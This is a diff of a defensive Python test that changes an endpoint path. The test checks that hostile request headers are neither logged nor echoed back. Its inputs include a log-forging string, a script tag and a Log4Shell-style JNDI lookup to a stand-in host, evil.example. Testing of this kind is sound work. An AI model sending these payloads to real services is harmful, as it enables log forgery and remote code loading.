@@ -64,7 +64,7 @@ def test_no_header_is_written_into_the_log_or_the_answer_as_it_came(
     host: RunningHost, name: str
 ) -> None:
     for attack in ("a\tevil=1 status=200", "<script>", "x" * 5000, "${jndi:ldap://evil.example/a}"):
-        answer = host.http.get("/api/v1/stats", headers={name: attack})
+        answer = host.http.get("/api/v1/sentiment/stats", headers={name: attack})
         check(answer)
         assert attack not in json.dumps(dict(answer.headers))
     assert not [line for line in host.lines if "evil=1" in line or "jndi" in line]
